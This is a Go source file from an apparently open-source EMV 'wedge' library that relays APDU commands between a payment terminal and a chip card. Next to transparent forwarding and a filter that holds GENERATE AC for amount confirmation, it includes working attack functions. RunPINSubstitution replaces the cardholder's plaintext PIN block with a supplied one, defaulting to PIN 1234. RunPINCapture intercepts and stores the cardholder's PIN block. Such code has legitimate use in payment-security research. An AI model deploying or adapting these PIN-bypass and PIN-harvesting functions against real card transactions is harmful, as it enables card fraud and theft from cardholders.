// Copyright 2026 The EMVWedge Project Contributors.
// SPDX-License-Identifier: Apache-2.0
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package emvwedge

import (
	"context"
	"fmt"
	"time"

	"github.com/emvwedge/go-emvwedge/apdu"
	"github.com/emvwedge/go-emvwedge/emv"
)

// Decision is a confirmer's answer about a held GENERATE AC command.
type Decision int

const (
	// DecisionPending means no answer yet; keep the terminal waiting.
	DecisionPending Decision = iota
	// DecisionAccept releases the held command to the ICC.
	DecisionAccept
	// DecisionDeny aborts the session without forwarding the command.
	DecisionDeny
)

// Confirmer is polled while a GENERATE AC command is held. Decide is
// called repeatedly with the decoded 12-digit transaction amount until
// it returns something other than DecisionPending.
//
// Decide must not block: the more-time byte keeping the terminal alive
// is emitted between calls, so a Decide that waits for input stalls
// the terminal link past its timeout. Implementations gather input on
// their own goroutine and answer DecisionPending until it arrives.
type Confirmer interface {
	Decide(amount string) Decision
}

// ConfirmerFunc adapts a function to the Confirmer interface.
type ConfirmerFunc func(amount string) Decision

// Decide calls f.
func (f ConfirmerFunc) Decide(amount string) Decision {
	return f(amount)
}

// DefaultPINBlock is the dummy plaintext PIN block substituted into
// VERIFY commands when no captured PIN is available (PIN 1234).
var DefaultPINBlock = []byte{0x24, 0x12, 0x34, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}

// RunForward transparently forwards exchanges between the terminal and
// the ICC until the context is cancelled or a link fails.
func RunForward(ctx context.Context, sess *SessionContext, b *Bridge) error {
	defer b.Teardown()
	if _, err := b.Handshake(ctx); err != nil {
		return err
	}
	sess.BeginTransaction()
	for {
		if _, err := b.ExchangeComplete(ctx); err != nil {
			return err
		}
	}
}

// RunForwardLogged forwards like RunForward but records every completed
// exchange into the session's exchange log, up to its capacity. Hitting
// the capacity never interrupts forwarding.
func RunForwardLogged(ctx context.Context, sess *SessionContext, b *Bridge) error {
	defer b.Teardown()
	if _, err := b.Handshake(ctx); err != nil {
		return err
	}
	sess.BeginTransaction()
	for {
		ex, err := b.ExchangeComplete(ctx)
		if err != nil {
			return err
		}
		if !sess.RecordExchange(ex) {
			Debugln("exchange log full, continuing unlogged")
		}
	}
}

// forwardOnce moves a single command/response pair across the bridge,
// reusing an already-received command.
func forwardOnce(b *Bridge, cmd *apdu.Command) (*apdu.Response, error) {
	if err := b.ICC.SendCommand(cmd); err != nil {
		return nil, err
	}
	resp, err := b.ICC.ReceiveResponse(cmd.Header)
	if err != nil {
		return nil, err
	}
	if err := b.Terminal.SendResponse(cmd.Header, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// RunFilterGenerateAC forwards a transaction but intercepts the first
// GENERATE AC command, decodes the transaction amount from its payload
// and holds it until confirm decides. The amount's position inside the
// CDOL1-built payload is learned from the first READ RECORD response
// that carries a CDOL1 (tag 8C) with an amount entry (tag 9F02).
//
// While holding, a more-time byte is sent to the terminal at the
// session's poll interval so the terminal does not time out. A deny
// aborts the session with ErrTransactionDenied and the command is never
// forwarded to the ICC.
func RunFilterGenerateAC(ctx context.Context, sess *SessionContext, b *Bridge, confirm Confirmer) error {
	defer b.Teardown()
	if _, err := b.Handshake(ctx); err != nil {
		return err
	}
	sess.BeginTransaction()

	// Phase 1: forward until a READ RECORD response reveals the amount
	// offset within CDOL1.
	amountPos := 0
	for amountPos == 0 {
		if err := ctx.Err(); err != nil {
			return err
		}
		cmd, err := b.Terminal.ReceiveCommand()
		if err != nil {
			return err
		}
		if cmd.Header.IsReadRecord() {
			if err := b.ICC.SendCommand(cmd); err != nil {
				return err
			}
			resp, err := b.ICC.ReceiveResponse(cmd.Header)
			if err != nil {
				return err
			}
			if len(resp.Data) > 0 {
				rec, perr := emv.ParseRecordEnvelope(resp.Data)
				if perr != nil {
					return perr
				}
				amountPos = emv.AmountPositionInCDOLRecord(rec)
			}
			if err := b.Terminal.SendResponse(cmd.Header, resp); err != nil {
				return err
			}
		} else {
			if _, err := forwardOnce(b, cmd); err != nil {
				return err
			}
		}
	}
	Debugf("amount offset in CDOL1 data: %d", amountPos)

	// Phase 2: forward until the first GENERATE AC, then hold it.
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		cmd, err := b.Terminal.ReceiveCommand()
		if err != nil {
			return err
		}
		if !cmd.Header.IsGenerateAC() {
			if _, err := forwardOnce(b, cmd); err != nil {
				return err
			}
			continue
		}

		if len(cmd.Data) < amountPos-1+6 {
			return fmt.Errorf("GENERATE AC data too short for amount at offset %d", amountPos)
		}
		amount := emv.DecodeAmountBCD(cmd.Data[amountPos-1 : amountPos-1+6])
		Debugf("holding GENERATE AC, amount %s", amount)

		hold := time.NewTicker(sess.Config().ConfirmPoll)
		defer hold.Stop()
		for {
			switch confirm.Decide(amount) {
			case DecisionAccept:
				goto release
			case DecisionDeny:
				return ErrTransactionDenied
			}
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-hold.C:
			}
			if err := b.Terminal.SendMoreTime(); err != nil {
				return err
			}
		}
	release:
		if _, err := forwardOnce(b, cmd); err != nil {
			return err
		}
		break
	}

	// Phase 3: plain forwarding for the rest of the session.
	for {
		if _, err := b.ExchangeComplete(ctx); err != nil {
			return err
		}
	}
}

// RunPINSubstitution forwards a transaction, replacing the data of any
// plaintext VERIFY command (CLA 00, INS 20, P2 80) with the given PIN
// block before it reaches the ICC. The response is relayed unmodified.
func RunPINSubstitution(ctx context.Context, sess *SessionContext, b *Bridge, pin []byte) error {
	defer b.Teardown()
	if len(pin) == 0 || len(pin) > MaxPINBlock {
		return fmt.Errorf("%w: substitute block of %d bytes", ErrBadPINFormat, len(pin))
	}
	if _, err := b.Handshake(ctx); err != nil {
		return err
	}
	sess.BeginTransaction()
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		cmd, err := b.Terminal.ReceiveCommand()
		if err != nil {
			return err
		}
		if cmd.Header.IsVerifyPlaintext() && len(cmd.Data) > 0 {
			hdr := cmd.Header
			hdr.P3 = byte(len(pin))
			mod := apdu.NewRaw(hdr, pin)
			if err := b.ICC.SendCommand(mod); err != nil {
				return err
			}
			resp, err := b.ICC.ReceiveResponse(mod.Header)
			if err != nil {
				return err
			}
			if err := b.Terminal.SendResponse(mod.Header, resp); err != nil {
				return err
			}
			continue
		}
		if _, err := forwardOnce(b, cmd); err != nil {
			return err
		}
	}
}

// RunPINCapture forwards a transaction until a plaintext VERIFY command
// arrives, persists its PIN block and terminates the session without
// forwarding that command. A VERIFY with P2 other than 0x80 or with a
// data length disagreeing with P3 fails with ErrBadPINFormat.
func RunPINCapture(ctx context.Context, sess *SessionContext, b *Bridge, store PINStore) error {
	defer b.Teardown()
	if _, err := b.Handshake(ctx); err != nil {
		return err
	}
	sess.BeginTransaction()
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		cmd, err := b.Terminal.ReceiveCommand()
		if err != nil {
			return err
		}
		if cmd.Header.IsVerify() {
			if cmd.Header.P2 != 0x80 || len(cmd.Data) != int(cmd.Header.P3) {
				return fmt.Errorf("%w: P2=0x%02X len=%d P3=%d",
					ErrBadPINFormat, cmd.Header.P2, len(cmd.Data), cmd.Header.P3)
			}
			if err := store.Store(cmd.Data); err != nil {
				return fmt.Errorf("persist PIN block: %w", err)
			}
			Debugln("PIN block captured, terminating session")
			return nil
		}
		if _, err := forwardOnce(b, cmd); err != nil {
			return err
		}
	}
}
